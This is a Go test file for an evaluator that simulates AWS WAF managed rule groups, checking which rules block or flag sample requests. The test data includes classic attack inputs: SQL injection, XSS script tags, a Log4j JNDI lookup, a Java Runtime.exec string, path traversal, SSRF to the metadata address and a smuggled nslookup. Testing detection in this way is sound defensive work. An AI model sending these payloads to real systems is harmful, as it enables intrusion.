package waf

import (
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/service/wafv2/types"
)

// TestDocumentedExamples sends what AWS's tables of managed rules give as examples.
func TestDocumentedExamples(t *testing.T) {
	agent := func(v string) *Request {
		return &Request{Method: "GET", Path: "/", Headers: []Header{{"User-Agent", v}}}
	}
	header := func(v string) *Request { return with(browse("/"), Header{"X-Api", v}) }
	long := strings.Repeat("a", 1100)
	for _, tc := range []struct {
		group, rule string
		req         *Request
		certain     bool
	}{
		{"CommonRuleSet", "NoUserAgent_HEADER", &Request{Method: "GET", Path: "/"}, true},
		{"CommonRuleSet", "UserAgent_BadBots_HEADER", agent("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), false},
		{"CommonRuleSet", "SizeRestrictions_QUERYSTRING", browse("/?q=" + long + long), true},
		{"CommonRuleSet", "SizeRestrictions_Cookie_HEADER", with(agent(browserAgent), Header{"Cookie", "a=" + strings.Repeat("x", 10240)}), true},
		{"CommonRuleSet", "SizeRestrictions_URIPATH", browse("/" + long), true},
		{"CommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS", browse("/?u=http%3A%2F%2F169.254.169.254%2Flatest"), false},
		{"CommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS", browse("/login?redirect_uri=http://localhost:3000/cb"), false},
		{"CommonRuleSet", "GenericLFI_QUERYARGUMENTS", browse("/?f=..%2f..%2fetc"), false},
		{"CommonRuleSet", "GenericLFI_URIPATH", browse("/a/../../b"), false},
		{"CommonRuleSet", "RestrictedExtensions_URIPATH", browse("/logs/app.log"), false},
		{"CommonRuleSet", "RestrictedExtensions_QUERYARGUMENTS", browse("/get?file=php.ini&x=1"), false},
		{"CommonRuleSet", "GenericRFI_QUERYARGUMENTS", browse("/hook?url=https://192.0.2.10/x"), false},
		{"CommonRuleSet", "GenericRFI_BODY", post("/hook", `{"callback":"http://192.0.2.10:8080/"}`), false},
		{"CommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS", browse("/?q=%3Cscript%3Ealert(%22hello%22)%3C/script%3E"), false},
		{"CommonRuleSet", "CrossSiteScripting_BODY", post("/", `<script>alert("hello")</script>`), false},
		{"AdminProtectionRuleSet", "AdminProtection_URIPATH", browse("/sqlmanager/index"), false},
		{"KnownBadInputsRuleSet", "JavaDeserializationRCE_HEADER", header(`(java.lang.Runtime).getRuntime().exec("whoami")`), false},
		{"KnownBadInputsRuleSet", "Host_localhost_HEADER", &Request{Method: "GET", Path: "/", Headers: []Header{{"Host", "localhost:8080"}}}, false},
		{"KnownBadInputsRuleSet", "PROPFIND_METHOD", &Request{Method: "PROPFIND", Path: "/"}, true},
		{"KnownBadInputsRuleSet", "ExploitablePaths_URIPATH", browse("/WEB-INF/web.xml"), false},
		{"KnownBadInputsRuleSet", "Log4JRCE_HEADER", header("${jndi:ldap://example.com/}"), false},
		{"KnownBadInputsRuleSet", "Log4JRCE_QUERYSTRING", browse("/?x=%24%7Bjndi:ldap://example.com/}"), false},
		{"SQLiRuleSet", "SQLi_QUERYARGUMENTS", browse("/?id=1%27%20OR%20%271%27=%271"), false},
		{"LinuxRuleSet", "LFI_QUERYSTRING", browse("/?f=/proc/version"), false},
		{"UnixRuleSet", "UNIXShellCommandsVariables_BODY", post("/", "echo $HOME"), false},
		{"WindowsRuleSet", "WindowsShellCommands_QUERYARGUMENTS", browse("/?x=||nslookup"), false},
		{"WindowsRuleSet", "PowerShellCommands_QUERYARGUMENTS", browse("/?x=Invoke-Expression"), false},
		{"PHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING", browse("/?x=fsockopen"), false},
		{"WordPressRuleSet", "WordPressExploitablePaths_URIPATH", browse("/xmlrpc.php"), false},
		{"WordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", browse("/?a=do-reset-wordpress"), false},
	} {
		res := Compile(rulesACL(t, managed(tc.group)), References{}).Evaluate(tc.req)
		if tc.certain {
			if res.Action != Block || res.Rule.InnerRule != tc.rule || !res.Certain {
				t.Errorf("%s: %v by %+v, want a certain block", tc.rule, res.Action, res.Rule)
			}
			continue
		}
		found := false
		for _, m := range res.Maybe {
			found = found || m.InnerRule == tc.rule && m.Likely && m.Because != ""
		}
		if !found || !res.Suspicious() {
			t.Errorf("%s: %+v, want it likely", tc.rule, res.Maybe)
		}
	}
}

// TestUnknownBodiesStayQuiet: a body whose content is not known gives one weak possibility per group.
func TestUnknownBodiesStayQuiet(t *testing.T) {
	a := Compile(rulesACL(t, managed("CommonRuleSet"), managed("KnownBadInputsRuleSet"), managed("SQLiRuleSet")), References{})
	r := post("/api", "")
	r.Body, r.BodySize = nil, 500
	res := a.Evaluate(r)
	if res.Suspicious() || len(res.Maybe) != 3 {
		t.Errorf("got %+v", res.Maybe)
	}
}

func TestFraudGroupsGuardTheirPages(t *testing.T) {
	login := "/login"
	acl := rulesACL(t, managed("ATPRuleSet"))
	acl.Rules[0].Statement.ManagedRuleGroupStatement.ManagedRuleGroupConfigs = []types.ManagedRuleGroupConfig{
		{AWSManagedRulesATPRuleSet: &types.AWSManagedRulesATPRuleSet{LoginPath: &login}},
	}
	a := Compile(acl, References{})
	if res := a.Evaluate(browse("/")); len(res.Maybe) != 0 {
		t.Errorf("/: %+v", res.Maybe)
	}
	if res := a.Evaluate(post("/login", "user=a")); len(res.Maybe) != 1 || !res.Maybe[0].Weak {
		t.Errorf("/login: %+v", res.Maybe)
	}
}

func TestTargetedRulesNeedTheTargetedLevel(t *testing.T) {
	name, block := "TGT_VolumetricIpTokenAbsent", &types.RuleAction{Challenge: &types.ChallengeAction{}}
	refs := References{ManagedRuleGroup: func(string, string, string) ([]types.RuleSummary, bool) {
		return []types.RuleSummary{{Name: &name, Action: block}}, true
	}}
	acl := rulesACL(t, managed("BotControlRuleSet"))
	group := acl.Rules[0].Statement.ManagedRuleGroupStatement
	for level, want := range map[types.InspectionLevel]Action{types.InspectionLevelTargeted: Challenge, types.InspectionLevelCommon: ActionUnknown} {
		group.ManagedRuleGroupConfigs = []types.ManagedRuleGroupConfig{{AWSManagedRulesBotControlRuleSet: &types.AWSManagedRulesBotControlRuleSet{InspectionLevel: level}}}
		res := Compile(acl, refs).Evaluate(browse("/"))
		got := ActionUnknown
		for _, m := range res.Maybe {
			if m.InnerRule == name {
				got = m.Action
			}
		}
		if got != want {
			t.Errorf("%s: %v, want %v (%+v)", level, got, want, res.Maybe)
		}
	}
}
